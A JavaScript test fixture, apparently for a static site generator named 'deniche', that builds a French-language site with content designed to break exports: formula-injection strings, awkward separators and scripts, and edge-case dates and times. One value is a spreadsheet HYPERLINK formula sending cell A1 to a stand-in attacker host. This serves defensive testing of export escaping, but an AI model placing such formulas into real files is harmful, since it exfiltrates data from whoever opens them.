// A small site whose texts, places and hours are hard on the exports.

import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { deniche, smallSite } from "./deniche.mjs";
import { openSite } from "./site.mjs";

/** Texts that a spreadsheet would run. */
const FORMULAS = {
  titre: "=HYPERLINK(\"https://mal.example/?\"&A1;\"voir\")",
  resume: "+33 1 23 45 67 89, appelez vite",
  mots_cles: ["-2+3", "@SUM(1+1)"],
  partenaires: ["=1+1", "Pain & Cie"],
};

/** Texts that separators, quotes, folding and escaping could break, in several alphabets. */
const TEXTS = {
  titre: "Un « Café », du \"coin\" ; et | ailleurs \\ là-bas <b>&amp;</b>",
  resume: "Première ligne, puis\nune autre ; « 東京 » 🧑‍🌾🏽 et e\u0301te\u0301.",
  mots_cles: ["pain, vin ; fromage", "l'autre \"mot\""],
  organisations: ["Réveil, Debout & Cie"],
};

const LONG = "🧑‍🌾🏽 L’été, à Orléans, on sème ; puis, en forêt, l’on récolte \\ et l’on se repose, ".repeat(4).trim();

/** Front matter by file; what is not said is filled in by `frontMatter`. */
export const ENTRIES = {
  "fiches/formules.md": { ...FORMULAS, lieu: { commune: "Saint-Denis", departement: "974", quartier: "＝A1", latitude: -20.8789, longitude: 55.4481 } },
  "fiches/textes.md": { ...TEXTS, date: "2021", site: "https://exemple.example/?a=1&b=2,3", lieu: { commune: "Orléans", departement: "45" } },
  "fiches/ailleurs.md": { titre: "Chez nos cousins", lieu: { commune: "Gatineau", pays: "Canada", latitude: 45.4765, longitude: -75.7013 } },
  "fiches/equateur.md": { titre: "Sous l’équateur", lieu: { commune: "Kampala", pays: "Ouganda", latitude: 0.0, longitude: 32.5 } },
  "fiches/nue.md": { titre: "Rien que le titre" },
  "rencontres/hiver.md": { date: "2024-03-30", heure: "14 h" },
  "rencontres/ete.md": { date: "2024-03-31", heure: "14:30" },
  "rencontres/fin-d-ete.md": { date: "2024-10-26", heure: "9h" },
  "rencontres/automne.md": { date: "2024-10-27", heure: "18 h 05" },
  "rencontres/ancienne.md": { date: "1997-07-14", heure: "20h30" },
  "rencontres/lointaine.md": { date: "2050-08-01", heure: "00:15" },
  "rencontres/sans-heure.md": { date: "2024-06-01", heure: "le matin" },
  "rencontres/bissextile.md": { date: "2024-02-29" },
  "rencontres/trois-jours.md": { date: "2023-12-30", date_fin: "2024-01-01", heure: "10 h" },
  "rencontres/un-mois.md": { date: "2024-05" },
  "rencontres/longue.md": { titre: LONG, resume: `${LONG}\n${LONG}`, date: "2024-07-01", lieu: { commune: "Orléans", departement: "45" } },
};

/** What the calendar must say: local start and end (exclusive) of each event, as they were written. */
export const EVENTS = {
  hiver: ["2024-03-30T14:00"],
  ete: ["2024-03-31T14:30"],
  "fin-d-ete": ["2024-10-26T09:00"],
  automne: ["2024-10-27T18:05"],
  ancienne: ["1997-07-14T20:30"],
  lointaine: ["2050-08-01T00:15"],
  "sans-heure": ["2024-06-01", "2024-06-02"],
  bissextile: ["2024-02-29", "2024-03-01"],
  "trois-jours": ["2023-12-30", "2024-01-02"],
  longue: ["2024-07-01", "2024-07-02"],
};

const toml = (value) => {
  if (Array.isArray(value)) return `[${value.map(toml).join(", ")}]`;
  if (typeof value === "object") return `{ ${Object.entries(value).map(([key, one]) => `${key} = ${toml(one)}`).join(", ")} }`;
  if (typeof value === "number" && Number.isInteger(value)) return `${value}.0`;
  return JSON.stringify(value);
};

function frontMatter(file, { heure, ...entry }) {
  const meeting = file.startsWith("rencontres/");
  const all = { titre: file, thematiques: ["coopération"], ...entry };
  if (meeting && !all.lieu) all.a_distance = true;
  if (heure) all.programme = [{ heure, titre: "Accueil" }, { heure: "23 h", titre: "Fin" }];
  const lines = Object.entries(all).map(([key, value]) => `${key} = ${value === true ? "true" : toml(value)}`);
  return `+++\n${lines.join("\n")}\n+++\n\n## Le contexte\n\nUn texte.\n`;
}

/** The site, built. `rebuild` changes an entry and builds it again, another day, beside the first; `remove` forgets it all. */
export async function hardSite() {
  const { root, remove } = await smallSite();
  const write = (file, entry) => writeFile(join(root, "content", file), frontMatter(file, entry));
  const build = async (name, day) => {
    const output = join(root, "..", name);
    await deniche("build", "--root", root, "--output", output, "--date", day, "--base-url", "https://essai.example:8443/un/site/");
    return openSite(output, name);
  };
  try {
    for (const [file, entry] of Object.entries(ENTRIES)) await write(file, entry);
    const site = await build("essai", "2026-06-01");
    const rebuild = async (file, change, day, settings = {}) => {
      await write(file, { ...ENTRIES[file], ...change });
      const kept = (await readFile(join(root, "deniche.toml"), "utf8")).split("\n").filter((line) => !Object.keys(settings).some((key) => line.startsWith(`${key} =`)));
      await writeFile(join(root, "deniche.toml"), [...Object.entries(settings).map(([key, value]) => `${key} = ${toml(value)}`), ...kept].join("\n"));
      return build("nouvel-essai", day);
    };
    return { site, rebuild, remove };
  } catch (error) {
    await remove();
    throw error;
  }
}
